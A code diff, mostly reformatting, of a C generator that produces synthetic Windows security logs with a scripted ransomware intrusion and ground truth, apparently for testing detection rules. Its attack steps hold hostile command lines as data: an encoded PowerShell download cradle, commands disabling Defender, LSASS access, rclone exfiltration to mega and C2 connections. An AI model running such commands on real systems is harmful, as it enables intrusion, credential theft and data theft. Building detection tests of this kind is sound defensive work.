@@ -77,9 +77,9 @@ static struct buf line;
 static uint64_t rng_state;
 
 static const char *const users[] = {
-    "jdoe",      "asmith",   "bchen",    "mgarcia",  "lnguyen", "pkumar",
-    "rjohnson",  "tmueller", "kwilson",  "ebrown",   "dlee",    "sokafor",
-    "vrossi",    "hnakamura"};
+    "jdoe",   "asmith",   "bchen",    "mgarcia",  "lnguyen",
+    "pkumar", "rjohnson", "tmueller", "kwilson",  "ebrown",
+    "dlee",   "sokafor",  "vrossi",   "hnakamura"};
 #define N_USERS (sizeof users / sizeof users[0])
 #define ADMIN_USER "adm.kowalski"
 #define C2_IP "45.77.13.201"
@@ -99,7 +99,9 @@ static uint64_t rnd(void) {
     return z ^ (z >> 31);
 }
 
-static unsigned rnd_below(unsigned n) { return (unsigned)(rnd() % n); }
+static unsigned rnd_below(unsigned n) {
+    return (unsigned)(rnd() % n);
+}
 
 static const char *pick(const char *const *list, size_t n) {
     return list[rnd_below((unsigned)n)];
@@ -107,14 +109,11 @@ static const char *pick(const char *const *list, size_t n) {
 #define PICK(list) pick(list, sizeof list / sizeof list[0])
 
 static void buf_reserve(struct buf *b, size_t extra) {
-    if (b->len + extra + 1 <= b->cap)
-        return;
+    if (b->len + extra + 1 <= b->cap) return;
     size_t cap = b->cap ? b->cap : 1024;
-    while (cap < b->len + extra + 1)
-        cap *= 2;
+    while (cap < b->len + extra + 1) cap *= 2;
     char *p = realloc(b->p, cap);
-    if (!p)
-        die("out of memory");
+    if (!p) die("out of memory");
     b->p = p;
     b->cap = cap;
 }
@@ -126,7 +125,9 @@ static void buf_add(struct buf *b, const char *s, size_t n) {
     b->p[b->len] = '\0';
 }
 
-static void buf_adds(struct buf *b, const char *s) { buf_add(b, s, strlen(s)); }
+static void buf_adds(struct buf *b, const char *s) {
+    buf_add(b, s, strlen(s));
+}
 
 static void buf_json_string(struct buf *b, const char *s) {
     buf_adds(b, "\"");
@@ -205,13 +206,11 @@ static void emit(int64_t ms, enum channel chan) {
     if (n_events == cap_events) {
         cap_events = cap_events ? cap_events * 2 : 4096;
         struct event *ne = realloc(events, cap_events * sizeof *ne);
-        if (!ne)
-            die("out of memory");
+        if (!ne) die("out of memory");
         events = ne;
     }
     char *copy = malloc(line.len + 1);
-    if (!copy)
-        die("out of memory");
+    if (!copy) die("out of memory");
     memcpy(copy, line.p, line.len + 1);
     events[n_events] = (struct event){ms, chan, n_events, current_step, copy};
     n_events++;
@@ -220,8 +219,7 @@ static void emit(int64_t ms, enum channel chan) {
 static int add_step(int64_t ms, const char *host, const char *user,
                     const char *tactic, const char *technique,
                     const char *rule_title) {
-    if (n_steps == (int)(sizeof steps / sizeof steps[0]))
-        die("too many steps");
+    if (n_steps == (int)(sizeof steps / sizeof steps[0])) die("too many steps");
     steps[n_steps] =
         (struct step){ms, host, user, tactic, technique, rule_title, -1};
     current_step = n_steps++;
@@ -245,8 +243,7 @@ static void new_guid(const struct host *h, char *out, size_t size) {
 
 static unsigned new_pid(void) {
     next_pid += 4 + rnd_below(400);
-    if (next_pid > 60000)
-        next_pid = 1000 + rnd_below(1000);
+    if (next_pid > 60000) next_pid = 1000 + rnd_below(1000);
     return next_pid;
 }
 
@@ -313,8 +310,8 @@ static void proc_init(struct proc *p, const struct host *h, const char *image,
 
 static void sysmon_begin(int64_t ms, const struct host *h, int id) {
     char ut[80];
-    begin(ms, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational",
-          h->name, id);
+    begin(ms, "Microsoft-Windows-Sysmon",
+          "Microsoft-Windows-Sysmon/Operational", h->name, id);
     fieldf("Task", "%d", id);
     field("RuleName", "-");
     format_time(ms - 40 - rnd_below(80), ut, sizeof ut, ' ', 0);
@@ -444,8 +441,7 @@ static void logon(int64_t ms, const struct host *h, int ok, const char *user,
            ok ? 1100 + (unsigned)strlen(user) * 7 : 0);
     field("TargetUserName", user);
     field("TargetDomainName", "ACME");
-    if (ok)
-        field("TargetLogonId", logon_id);
+    if (ok) field("TargetLogonId", logon_id);
     fieldf("LogonType", "%d", type);
     field("LogonProcessName", type == 3 ? "NtLmSsp " : "User32 ");
     field("AuthenticationPackageName", type == 3 ? "NTLM" : "Negotiate");
@@ -515,10 +511,8 @@ static void encode_ps(const char *script, char *out, size_t size) {
     }
     for (size_t i = 0; i < n && o + 5 < size; i += 3) {
         unsigned v = (unsigned)wide[i] << 16;
-        if (i + 1 < n)
-            v |= (unsigned)wide[i + 1] << 8;
-        if (i + 2 < n)
-            v |= wide[i + 2];
+        if (i + 1 < n) v |= (unsigned)wide[i + 1] << 8;
+        if (i + 2 < n) v |= wide[i + 2];
         out[o++] = tbl[(v >> 18) & 63];
         out[o++] = tbl[(v >> 12) & 63];
         out[o++] = i + 1 < n ? tbl[(v >> 6) & 63] : '=';
@@ -531,13 +525,12 @@ static void encode_ps(const char *script, char *out, size_t size) {
 /* Hosts and per-host long-lived processes                              */
 
 enum { H_DC, H_FILE, H_WEB, H_JUMP, H_FIRST_WS };
-#define WS(n) (&hosts[H_FIRST_WS + (n) - 1])
+#define WS(n) (&hosts[H_FIRST_WS + (n)-1])
 
 static void make_hosts(int count) {
     n_hosts = count;
     hosts = calloc((size_t)count, sizeof *hosts);
-    if (!hosts)
-        die("out of memory");
+    if (!hosts) die("out of memory");
     for (int i = 0; i < count; i++) {
         struct host *h = &hosts[i];
         if (i == H_DC) {
@@ -593,9 +586,10 @@ static const char *const web_agents[] = {
     "(KHTML, like Gecko) Version/17.2 Safari/605.1.15",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) Mobile/15E148",
     "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"};
-static const char *const web_paths[] = {"/", "/products", "/contact",
-                                        "/login", "/static/site.css",
-                                        "/api/v1/status", "/careers"};
+static const char *const web_paths[] = {
+    "/",       "/products",        "/contact",
+    "/login",  "/static/site.css", "/api/v1/status",
+    "/careers"};
 
 static void background_one(int64_t ms) {
     /* Workstations carry most of the activity, as in a real office. */
@@ -637,10 +631,10 @@ static void background_one(int64_t ms) {
             "C:\\Windows\\System32\\notepad.exe",
             "C:\\Program Files\\7-Zip\\7zFM.exe",
             "C:\\Windows\\System32\\mspaint.exe",
-            "C:\\Users\\Public\\Desktop\\..\\..\\..\\Program Files\\Zoom\\bin\\Zoom.exe"};
+            "C:\\Users\\Public\\Desktop\\..\\..\\..\\Program "
+            "Files\\Zoom\\bin\\Zoom.exe"};
         const char *app = PICK(apps);
-        if (strstr(app, "Zoom"))
-            app = "C:\\Program Files\\Zoom\\bin\\Zoom.exe";
+        if (strstr(app, "Zoom")) app = "C:\\Program Files\\Zoom\\bin\\Zoom.exe";
         snprintf(cmd, sizeof cmd, "\"%s\"", app);
         proc_create(ms, &ex, &p, app, cmd, "Medium");
     } else if (kind < 32) {
@@ -657,7 +651,8 @@ static void background_one(int64_t ms) {
              "powershell.exe -NoProfile -ExecutionPolicy Bypass -File "
              "\"C:\\Program Files\\Acme\\inventory.ps1\""},
             {"C:\\Windows\\System32\\certutil.exe",
-             "certutil -hashfile C:\\Users\\Public\\Downloads\\setup.msi SHA256"},
+             "certutil -hashfile C:\\Users\\Public\\Downloads\\setup.msi "
+             "SHA256"},
             {"C:\\Windows\\System32\\schtasks.exe", "schtasks /query /fo LIST"},
             {"C:\\Program Files\\7-Zip\\7z.exe",
              "7z.exe a C:\\Users\\Public\\Documents\\report.zip "
@@ -675,7 +670,8 @@ static void background_one(int64_t ms) {
              "C:\\Windows\\system32\\svchost.exe -k LocalService -p -s "
              "WdiServiceHost"},
             {"C:\\Windows\\System32\\backgroundTaskHost.exe",
-             "\"backgroundTaskHost.exe\" -ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"},
+             "\"backgroundTaskHost.exe\" "
+             "-ServerName:App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca"},
             {"C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe"},
             {"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
              "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding"},
@@ -693,7 +689,8 @@ static void background_one(int64_t ms) {
         if (rnd_below(6) == 0) {
             /* PowerShell to an internal server: private, so not C2. */
             proc_init(&p, h,
-                      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                      "C:\\Windows\\System32\\WindowsPowerShell\\v1."
+                      "0\\powershell.exe",
                       ex.user, ex.logon_id);
             net_connect(ms, &p, hosts[H_FILE].ip, 445, hosts[H_FILE].name);
         } else {
@@ -701,8 +698,9 @@ static void background_one(int64_t ms) {
         }
     } else if (kind < 68) {
         static const char *const names[] = {
-            "outlook.office365.com", "www.google.com", "login.microsoftonline.com",
-            "dc01.acme.local", "teams.microsoft.com", "github.com"};
+            "outlook.office365.com",     "www.google.com",
+            "login.microsoftonline.com", "dc01.acme.local",
+            "teams.microsoft.com",       "github.com"};
         dns_query(ms, &sys, PICK(names), PICK(external_ips));
     } else if (kind < 78) {
         const char *lt = rnd_below(3) ? "3" : "2";
@@ -714,8 +712,8 @@ static void background_one(int64_t ms) {
             logon(ms, h, 1, ADMIN_USER, 10, hosts[H_JUMP].ip, "JUMP01", lid);
         } else if (rnd_below(25) == 0) {
             /* A mistyped password, maybe twice. */
-            logon(ms, h, 0, user, atoi(lt), WS(1 + (int)rnd_below(
-                                                (unsigned)(n_hosts - H_FIRST_WS)))->ip,
+            logon(ms, h, 0, user, atoi(lt),
+                  WS(1 + (int)rnd_below((unsigned)(n_hosts - H_FIRST_WS)))->ip,
                   "-", "0x0");
             if (rnd_below(2))
                 logon(ms + 4000, h, 0, user, atoi(lt), h->ip, "-", "0x0");
@@ -726,35 +724,52 @@ static void background_one(int64_t ms) {
         }
     } else if (kind < 86) {
         static const char *const keys[][2] = {
-            {"HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
-             "\"C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background"},
-            {"HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\com.squirrel.Teams.Teams",
-             "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\Update.exe --processStart \"Teams.exe\""},
-            {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SecurityHealth",
+            {"HKU\\S-1-5-21-3623811015-3361044348-30300820-"
+             "1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriv"
+             "e",
+             "\"C:\\Users\\%s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive."
+             "exe\" /background"},
+            {"HKU\\S-1-5-21-3623811015-3361044348-30300820-"
+             "1104\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\com."
+             "squirrel.Teams.Teams",
+             "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Teams\\Update.exe "
+             "--processStart \"Teams.exe\""},
+            {"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Security"
+             "Health",
              "%windir%\\system32\\SecurityHealthSystray.exe"},
-            {"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1-5-21-3623811015-3361044348-30300820-1104\\\\Device\\HarddiskVolume3\\Windows\\System32\\notepad.exe",
+            {"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettin"
+             "gs\\S-1-5-21-3623811015-3361044348-30300820-"
+             "1104\\\\Device\\HarddiskVolume3\\Windows\\System32\\notepad.exe",
              "Binary Data"},
-            {"HKU\\S-1-5-21-3623811015-3361044348-30300820-1104\\Software\\Microsoft\\Office\\16.0\\Word\\Options\\LastUIVersion",
+            {"HKU\\S-1-5-21-3623811015-3361044348-30300820-"
+             "1104\\Software\\Microsoft\\Office\\16."
+             "0\\Word\\Options\\LastUIVersion",
              "DWORD (0x00000010)"}};
         size_t k = rnd_below(sizeof keys / sizeof keys[0]);
         char details[512];
         subst_user(details, sizeof details, keys[k][1], user);
-        proc_init(&p, h, k < 2 ? "C:\\Windows\\explorer.exe"
-                               : "C:\\Windows\\system32\\svchost.exe",
+        proc_init(&p, h,
+                  k < 2 ? "C:\\Windows\\explorer.exe"
+                        : "C:\\Windows\\system32\\svchost.exe",
                   ex.user, ex.logon_id);
         reg_set(ms, &p, keys[k][0], details);
     } else if (kind < 94) {
         static const char *const files[] = {
             "C:\\Users\\%s\\Documents\\Q4 budget.xlsx",
-            "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2M1ZB\\agenda.pdf",
-            "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QK2M1ZB\\minutes.docx",
+            "C:\\Users\\%"
+            "s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
+            "Outlook\\7QK2M1ZB\\agenda.pdf",
+            "C:\\Users\\%"
+            "s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content."
+            "Outlook\\7QK2M1ZB\\minutes.docx",
             "C:\\Users\\%s\\Downloads\\ZoomInstaller.exe",
             "C:\\Users\\%s\\AppData\\Local\\Temp\\~DF3A21.tmp",
             "C:\\Users\\%s\\Documents\\README.txt"};
         subst_user(path, sizeof path, PICK(files), user);
         proc_init(&p, h,
                   strstr(path, "Outlook")
-                      ? "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"
+                      ? "C:\\Program Files\\Microsoft "
+                        "Office\\root\\Office16\\OUTLOOK.EXE"
                       : "C:\\Windows\\explorer.exe",
                   ex.user, ex.logon_id);
         file_create(ms, &p, path);
@@ -762,13 +777,16 @@ static void background_one(int64_t ms) {
         /* Defender and VirtualBox tools read LSASS legitimately. */
         struct proc lsass, av;
         system_proc(h, &lsass, "C:\\Windows\\system32\\lsass.exe");
-        system_proc(h, &av, rnd_below(2)
-                                ? "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"
-                                : "C:\\Windows\\System32\\VBoxService.exe");
+        system_proc(h, &av,
+                    rnd_below(2)
+                        ? "C:\\ProgramData\\Microsoft\\Windows "
+                          "Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe"
+                        : "C:\\Windows\\System32\\VBoxService.exe");
         proc_access(ms, &av, &lsass, rnd_below(2) ? "0x1410" : "0x1000");
     } else if (kind < 98) {
-        service_installed(ms, h, "AcmeBackupAgent",
-                          "\"C:\\Program Files\\Acme\\Backup\\agent.exe\" -service");
+        service_installed(
+            ms, h, "AcmeBackupAgent",
+            "\"C:\\Program Files\\Acme\\Backup\\agent.exe\" -service");
     } else {
         tgs_request(ms, &hosts[H_DC], user,
                     rnd_below(2) ? "SRV-FILE01$" : "svc_backup",
@@ -802,8 +820,9 @@ static void attack(int64_t t0) {
     t = t0 - 45 * MIN_MS;
     add_step(t, web->name, "-", "reconnaissance", "T1595.002",
              "Vulnerability Scanner User Agent Against Public Web Server");
-    static const char *const probes[] = {"/.git/config", "/admin", "/wp-login.php",
-                                         "/cgi-bin/test.cgi", "/owa/", "/robots.txt"};
+    static const char *const probes[] = {"/.git/config",  "/admin",
+                                         "/wp-login.php", "/cgi-bin/test.cgi",
+                                         "/owa/",         "/robots.txt"};
     for (int i = 0; i < 30; i++)
         web_request(t + i * 700, web, SCANNER_IP, i % 3 ? "GET" : "HEAD",
                     PICK(probes), "-", i % 4 ? 404 : 200,
@@ -815,10 +834,11 @@ static void attack(int64_t t0) {
     t = t0;
     add_step(t, ws3->name, victim_acct, "initial-access", "T1566.001",
              "Macro-Enabled Office Attachment Saved From Outlook");
-    proc_create(t - 30 * MIN_MS, &ex, &outlook,
-                "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
-                "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
-                "Medium");
+    proc_create(
+        t - 30 * MIN_MS, &ex, &outlook,
+        "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
+        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"",
+        "Medium");
     snprintf(path, sizeof path,
              "C:\\Users\\%s\\AppData\\Local\\Microsoft\\Windows\\INetCache\\"
              "Content.Outlook\\X8Q1P0LM\\Invoice_November_2026.docm",
@@ -831,13 +851,15 @@ static void attack(int64_t t0) {
     int office_step =
         add_step(t, ws3->name, victim_acct, "initial-access", "T1566.001",
                  "Office Application Spawns Script Interpreter");
-    snprintf(cmd, sizeof cmd,
-             "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" "
-             "/n \"%s\" /o \"\"",
-             path);
-    proc_create(t, &outlook, &word,
-                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-                cmd, "Medium");
+    snprintf(
+        cmd, sizeof cmd,
+        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" "
+        "/n \"%s\" /o \"\"",
+        path);
+    proc_create(
+        t, &outlook, &word,
+        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", cmd,
+        "Medium");
     int encoded_step =
         add_step(t + 9000, ws3->name, victim_acct, "execution", "T1059.001",
                  "PowerShell Started With Encoded Command");
@@ -850,9 +872,10 @@ static void attack(int64_t t0) {
               "/a.ps1')",
               enc, sizeof enc);
     snprintf(cmd, sizeof cmd, "powershell.exe -NoP -W Hidden -Enc %s", enc);
-    proc_create(t + 9000, &word, &ps,
-                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                cmd, "Medium");
+    proc_create(
+        t + 9000, &word, &ps,
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", cmd,
+        "Medium");
 
     /* Command and control: the cradle resolves and contacts the C2. */
     t += 12000;
@@ -931,16 +954,18 @@ static void attack(int64_t t0) {
     add_step(t, ws3->name, "NT AUTHORITY\\SYSTEM", "defense-impairment",
              "T1562.001",
              "Defender Real-Time Protection Disabled From Command Line");
-    proc_create(t, &shell, &c,
-                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                "powershell.exe -c \"Set-MpPreference -DisableRealtimeMonitoring "
-                "$true; Set-MpPreference -ExclusionPath C:\\Users\\Public\"",
-                "System");
+    proc_create(
+        t, &shell, &c,
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "powershell.exe -c \"Set-MpPreference -DisableRealtimeMonitoring "
+        "$true; Set-MpPreference -ExclusionPath C:\\Users\\Public\"",
+        "System");
 
     /* Credential access: read LSASS, twice over. */
     t = t0 + 22 * MIN_MS;
     add_step(t, ws3->name, "NT AUTHORITY\\SYSTEM", "credential-access",
-             "T1003.001", "LSASS Opened With Memory-Read Rights By Unusual Process");
+             "T1003.001",
+             "LSASS Opened With Memory-Read Rights By Unusual Process");
     system_proc(ws3, &lsass, "C:\\Windows\\system32\\lsass.exe");
     proc_access(t, &task_implant, &lsass, "0x1010");
     add_step(t + 60000, ws3->name, "NT AUTHORITY\\SYSTEM", "credential-access",
@@ -985,8 +1010,9 @@ static void attack(int64_t t0) {
 
     /* Password guessing against the file server's administrator. */
     t = t0 + 40 * MIN_MS;
-    add_step(t, srv->name, "administrator", "credential-access", "T1110.001",
-             "Brute Force - Many Failed Logons For One Account From One Address");
+    add_step(
+        t, srv->name, "administrator", "credential-access", "T1110.001",
+        "Brute Force - Many Failed Logons For One Account From One Address");
     for (int i = 0; i < 24; i++)
         logon(t + i * 5000, srv, 0, "administrator", 3, ws3->ip, "WS03", "0x0");
 
@@ -1014,15 +1040,17 @@ static void attack(int64_t t0) {
              "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
     snprintf(wmi.user, sizeof wmi.user, "ACME\\%s", ADMIN_USER);
     snprintf(wmi.logon_id, sizeof wmi.logon_id, "0x9b7720");
-    proc_create(t, &wmi, &srvshell, "C:\\Windows\\System32\\cmd.exe",
-                "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1793613000.41 2>&1",
-                "High");
+    proc_create(
+        t, &wmi, &srvshell, "C:\\Windows\\System32\\cmd.exe",
+        "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1793613000.41 2>&1",
+        "High");
     add_step(t + 3 * MIN_MS, srv->name, "ACME\\" ADMIN_USER, "lateral-movement",
              "T1021.002", "PsExec-Style Service Installed");
     service_installed(t + 3 * MIN_MS, srv, "PSEXESVC",
                       "%SystemRoot%\\PSEXESVC.exe");
     add_step(t + 5 * MIN_MS, srv->name, "ACME\\" ADMIN_USER, "persistence",
-             "T1543.003", "Service Installed With Binary In User-Writable Folder");
+             "T1543.003",
+             "Service Installed With Binary In User-Writable Folder");
     service_installed(t + 5 * MIN_MS, srv, "OneDriveSyncSvc",
                       "C:\\ProgramData\\svchost.exe -k svc");
 
@@ -1046,15 +1074,18 @@ static void attack(int64_t t0) {
                 "rclone.exe copy C:\\ProgramData\\f.7z mega:backup --config "
                 "C:\\ProgramData\\rc.conf -q",
                 "High");
-    net_connect(t + 2 * MIN_MS + 3000, &c, "31.216.148.9", 443, "g.api.mega.co.nz");
+    net_connect(t + 2 * MIN_MS + 3000, &c, "31.216.148.9", 443,
+                "g.api.mega.co.nz");
 
     /* C2 from the file server. */
     t = t0 + 100 * MIN_MS;
     add_step(t, srv->name, "ACME\\" ADMIN_USER, "command-and-control",
-             "T1071.001", "Script Host Or Rundll32 Connects To Internet Address");
-    proc_create(t - 1000, &srvshell, &c,
-                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                "powershell.exe -nop -w hidden -f C:\\ProgramData\\b.ps1", "High");
+             "T1071.001",
+             "Script Host Or Rundll32 Connects To Internet Address");
+    proc_create(
+        t - 1000, &srvshell, &c,
+        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+        "powershell.exe -nop -w hidden -f C:\\ProgramData\\b.ps1", "High");
     net_connect(t, &c, C2_IP, 443, NULL);
 
     /* Impact: no way back, notes everywhere, logs wiped. */
@@ -1068,7 +1099,8 @@ static void attack(int64_t t0) {
     add_step(t + MIN_MS, srv->name, "ACME\\" ADMIN_USER, "impact", "T1486",
              "Ransom Note Written Into Many Folders");
     static const char *const dirs[] = {"D:\\Shares\\Finance", "D:\\Shares\\HR",
-                                       "D:\\Shares\\Sales", "C:\\Users\\Public"};
+                                       "D:\\Shares\\Sales",
+                                       "C:\\Users\\Public"};
     proc_init(&c, srv, "C:\\ProgramData\\svchost.exe", "NT AUTHORITY\\SYSTEM",
               "0x3e7");
     for (size_t i = 0; i < sizeof dirs / sizeof dirs[0]; i++) {
@@ -1092,12 +1124,9 @@ static void attack(int64_t t0) {
 static int cmp_events(const void *a, const void *b) {
     const struct event *x = a, *y = b;
     int64_t bx = x->time_ms / BLOCK_MS, by = y->time_ms / BLOCK_MS;
-    if (bx != by)
-        return bx < by ? -1 : 1;
-    if (x->chan != y->chan)
-        return x->chan < y->chan ? -1 : 1;
-    if (x->time_ms != y->time_ms)
-        return x->time_ms < y->time_ms ? -1 : 1;
+    if (bx != by) return bx < by ? -1 : 1;
+    if (x->chan != y->chan) return x->chan < y->chan ? -1 : 1;
+    if (x->time_ms != y->time_ms) return x->time_ms < y->time_ms ? -1 : 1;
     return x->seq < y->seq ? -1 : (x->seq > y->seq);
 }
 
@@ -1150,8 +1179,10 @@ int main(int argc, char **argv) {
             host_count = atoi(v);
         else if (strcmp(a, "--start") == 0) {
             if (parse_start(v, &start_ms) != 0) {
-                fprintf(stderr, "gen_scenario: --start wants "
-                                "YYYY-MM-DDTHH:MM:SSZ, got '%s'\n", v);
+                fprintf(stderr,
+                        "gen_scenario: --start wants "
+                        "YYYY-MM-DDTHH:MM:SSZ, got '%s'\n",
+                        v);
                 return 2;
             }
         } else if (strcmp(a, "--truth") == 0)
@@ -1178,8 +1209,7 @@ int main(int argc, char **argv) {
 
     /* lines[s] collects the output line numbers of step s. */
     struct buf *lines = calloc((size_t)n_steps + 1, sizeof *lines);
-    if (!lines)
-        die("out of memory");
+    if (!lines) die("out of memory");
     for (size_t i = 0; i < n_events; i++) {
         fputs(events[i].line, stdout);
         fputc('\n', stdout);
@@ -1190,8 +1220,7 @@ int main(int argc, char **argv) {
             buf_adds(b, num);
         }
     }
-    if (fflush(stdout) != 0)
-        goto done;
+    if (fflush(stdout) != 0) goto done;
     if (truth_path) {
         truth = fopen(truth_path, "w");
         if (!truth) {
@@ -1218,11 +1247,9 @@ int main(int argc, char **argv) {
     }
     rc = 0;
 done:
-    for (size_t i = 0; i < n_events; i++)
-        free(events[i].line);
+    for (size_t i = 0; i < n_events; i++) free(events[i].line);
     free(events);
-    for (int s = 0; s <= n_steps; s++)
-        free(lines[s].p);
+    for (int s = 0; s <= n_steps; s++) free(lines[s].p);
     free(lines);
     free(hosts);
     free(line.p);
